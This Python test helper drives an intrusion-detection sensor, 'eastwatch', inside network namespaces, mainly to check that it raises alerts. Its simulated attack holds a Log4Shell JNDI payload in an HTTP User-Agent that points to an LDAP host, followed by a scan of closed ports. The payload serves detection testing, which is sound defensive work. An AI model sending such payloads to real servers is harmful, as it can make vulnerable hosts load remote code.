"""What the test hypervisors share (tests/hypervisor/*.py): the guests' traffic (a listener, and
an attack: an HTTP request with a Log4Shell `${jndi:` User-Agent to port 8080, then SYNs to
closed ports), the root/namespace preflight, starting eastwatch in the sensor namespace and
waiting until it captures, stopping it with SIGTERM, and reading eve.json back.
"""
import json
import os
import shutil
import signal
import subprocess
import time

LISTENER = r"""
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 8080)); s.listen(8); print("listening", flush=True)
while True:
    c, _ = s.accept(); c.recv(4096)
    c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok"); c.close()
"""

ATTACK = r"""
import socket, sys
target = sys.argv[1]
c = socket.create_connection((target, 8080), timeout=5)
c.sendall(b"GET / HTTP/1.1\r\nHost: app\r\nUser-Agent: ${jndi:ldap://10.77.0.1:1389/Exploit}\r\n\r\n")
print(c.recv(4096)[:15], flush=True); c.close()
for port in (21, 23, 25, 3306, 5432):
    s = socket.socket(); s.settimeout(2)
    try: s.connect((target, port))
    except OSError: pass
    s.close()
"""

CLOSED_PORTS = 5  # the SYNs of ATTACK after the HTTP request


class Skip(Exception):
    """The test cannot run here (exit 77, ctest: skipped)."""


def sh(*argv, **kw):
    return subprocess.run(list(argv), check=True, capture_output=True, text=True, timeout=60, **kw)


def preflight(name, prefix, tools=("ip", "tc")):
    """Raises Skip unless we are root, have `tools` and may create network namespaces."""
    if os.geteuid() != 0:
        raise Skip(f"{name}: needs root (network namespaces, veth); run it as root")
    missing = [tool for tool in tools if shutil.which(tool) is None]
    if missing:
        raise Skip(f"{name}: needs {', '.join(missing)}")
    probe = subprocess.run(["ip", "netns", "add", f"{prefix}-probe"], capture_output=True, text=True)
    if probe.returncode != 0:  # root without CAP_SYS_ADMIN (e.g. an unprivileged container)
        raise Skip(f"{name}: cannot create network namespaces: {probe.stderr.strip()}")
    subprocess.run(["ip", "netns", "del", f"{prefix}-probe"], capture_output=True)


def netns(prefix, name, *argv):
    return ["ip", "netns", "exec", f"{prefix}-{name}", *argv]


class Sensor:
    """eastwatch in the sensor namespace; `start` returns once it reports `ready` on stderr."""

    def __init__(self, prefix, argv, ready="capturing on"):
        self.process = subprocess.Popen(netns(prefix, "sensor", *argv), stdout=subprocess.PIPE,
                                        stderr=subprocess.PIPE, text=True)
        self.stderr = ""
        deadline = time.monotonic() + 60
        while ready not in self.stderr:
            line = self.process.stderr.readline()
            if not line or time.monotonic() > deadline:
                self.stderr += line
                rc = self.process.poll()
                self.kill()
                raise AssertionError(f"eastwatch did not start capturing: {self.stderr!r} rc={rc}")
            self.stderr += line

    def wait_for(self, text, seconds=30):
        """Reads stderr until `text` appears (the process keeps running)."""
        deadline = time.monotonic() + seconds
        while text not in self.stderr:
            line = self.process.stderr.readline()
            if not line or time.monotonic() > deadline:
                raise AssertionError(f"eastwatch never said {text!r}: {self.stderr!r} rc={self.process.poll()}")
            self.stderr += line

    def stop(self):
        """SIGTERM; asserts a clean exit 0 and returns its stderr."""
        assert self.process.poll() is None, f"eastwatch exited early ({self.process.returncode}): {self.stderr}"
        self.process.send_signal(signal.SIGTERM)
        _, rest = self.process.communicate(timeout=60)
        self.stderr += rest
        assert self.process.returncode == 0, f"eastwatch exit {self.process.returncode} after SIGTERM: {self.stderr}"
        return self.stderr

    def kill(self):
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()


def start_listener(prefix, guest, port=8080):
    listener = subprocess.Popen(netns(prefix, guest, "/usr/bin/python3", "-c", LISTENER.replace("8080", str(port))),
                                stdout=subprocess.PIPE, text=True)
    assert listener.stdout.readline().strip() == "listening", f"listener in {guest}"
    return listener


def attack(prefix, attacker, target_ip):
    """Runs ATTACK from `attacker` against `target_ip`; asserts the HTTP exchange completed."""
    result = sh(*netns(prefix, attacker, "/usr/bin/python3", "-c", ATTACK, target_ip))
    assert "200 OK" in result.stdout, f"{target_ip} answered: {result.stdout!r}"


def read_eve(out):
    return [json.loads(line) for line in open(os.path.join(out, "eve.json"))]


def alerts_of(records):
    return [r for r in records if r["event_type"] == "alert"]


def last_stats(records):
    stats = [r["stats"] for r in records if r["event_type"] == "stats"]
    assert stats, "a final stats record"
    return stats[-1]


def kill_all(processes):
    for process in processes:
        if process.poll() is None:
            process.kill()
            process.wait()
